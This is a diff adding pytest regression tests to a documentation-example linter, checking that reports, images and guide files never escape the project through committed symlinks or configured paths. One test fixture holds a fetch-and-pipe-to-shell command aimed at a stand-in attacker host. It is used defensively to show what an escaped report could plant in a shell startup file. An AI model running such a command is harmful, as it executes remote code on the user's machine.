@@ -1492,6 +1492,97 @@ def test_the_pytest_plugin_runs_examples_behind_the_same_walls(tmp_path):
     )
 
 
+@pytest.mark.slow  # `guidelint run` in a subprocess
+def test_the_run_report_never_goes_through_a_committed_symlink(tmp_path):
+    """`guidelint run docs/ --format junit -o run.xml` (RUNNING.md's CI step) where the
+    pull request commits `run.xml -> ~/.bashrc` (or `reports/ -> ~`): the report,
+    holding what the example printed (a line of shell), replaced the file outside.
+    Now one error line, nothing written; a path outside named by the user is theirs."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "bashrc").write_text("theirs\n")
+    project = tmp_path / "project"
+    (project / "docs").mkdir(parents=True)
+    (project / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
+    shell = "curl -s https://attacker.example/x | sh"
+    (project / "docs" / "guide.md").write_text(_fence(f"print({shell!r})"))
+    (project / "run.xml").symlink_to(home / "bashrc")
+    (project / "reports").symlink_to(home, target_is_directory=True)
+    for target in ("run.xml", "reports/run.xml"):
+        completed = _cli(project, "docs/", "--format", "junit", "-o", target)
+        last = completed.stderr.strip().splitlines()[-1]
+        assert completed.returncode == 2 and "Traceback" not in completed.stderr, last
+        assert last.startswith(f"guidelint: error: {target}: report not written: "), last
+        assert "outside the project" in last
+    assert sorted(p.name for p in home.iterdir()) == ["bashrc"]
+    assert (home / "bashrc").read_text() == "theirs\n"
+    elsewhere = tmp_path / "ci" / "run.xml"  # outside the project: the user's choice
+    assert _cli(project, "docs/", "--format", "junit", "-o", str(elsewhere)).returncode == 0
+    assert shell in elsewhere.read_text()
+
+
+def _pytest_examples(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-rA"]
+        + ["--guidelint-examples", *args],
+        cwd=root,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        timeout=300,
+    )
+
+
+WRITES_AN_IMAGE = _fence("open('shot.png', 'wb').write(b'PNG')\nprint('drawn')")
+
+
+@pytest.mark.slow  # pytest runs in a subprocess
+def test_the_pytest_plugin_keeps_images_only_in_a_confined_report_folder(tmp_path):
+    """`pytest --guidelint-examples` took `runner.report-dir` as the pull request's
+    configuration said, and a committed `.guidelint_cache/run -> /elsewhere`: the warm
+    worker copied the examples' images outside the project (`guidelint run` refuses
+    both). Now each is one collection error naming the folder, and nothing is kept."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    for name, config, link in (
+        ("configured", 'report-dir = "../outside/reports"', False),
+        ("linked", "", True),
+    ):
+        project = tmp_path / name
+        (project / "docs").mkdir(parents=True)
+        (project / "pyproject.toml").write_text(f"[tool.guidelint.runner]\n{config}\n")
+        (project / "docs" / "guide.md").write_text(WRITES_AN_IMAGE)
+        if link:
+            (project / ".guidelint_cache").mkdir()
+            (project / ".guidelint_cache" / "run").symlink_to(outside, target_is_directory=True)
+        completed = _pytest_examples(project, "docs/")
+        assert "leads outside the project" in completed.stdout or (
+            "is a symlink; guidelint does not write through it" in completed.stdout
+        ), completed.stdout[-3000:]
+        assert "1 error" in completed.stdout and "Traceback" not in completed.stdout
+        assert list(outside.iterdir()) == [], list(outside.rglob("*"))
+
+
+@pytest.mark.slow  # pytest runs in a subprocess
+def test_the_pytest_plugin_runs_no_guide_linked_from_outside(tmp_path):
+    """A committed `docs/notes.md -> ~/private/notes.md`: the plugin read the file
+    outside and ran its examples (their output in the CI log); `guidelint run` skips
+    it. Now, as there, it is skipped with one line naming it; the project's own guide
+    still runs."""
+    private = tmp_path / "private"
+    private.mkdir()
+    (private / "notes.md").write_text(_fence("print('PRIVATE-NOTES-7f3a')"))
+    project = tmp_path / "project"
+    (project / "docs").mkdir(parents=True)
+    (project / "pyproject.toml").write_text("[tool.guidelint.runner]\n")
+    (project / "docs" / "guide.md").write_text(_fence("print('fine')"))
+    (project / "docs" / "notes.md").symlink_to(private / "notes.md")
+    completed = _pytest_examples(project, "docs/")
+    assert "PRIVATE-NOTES-7f3a" not in completed.stdout
+    assert "docs/notes.md: not checked: it leads outside the project" in completed.stdout
+    assert "1 passed, 1 skipped" in completed.stdout, completed.stdout[-3000:]
+
+
 @needs_memory_cgroup
 def test_the_kernel_bounds_processes_and_threads_between_two_checks(tmp_path):
     assert CGROUPS is not None
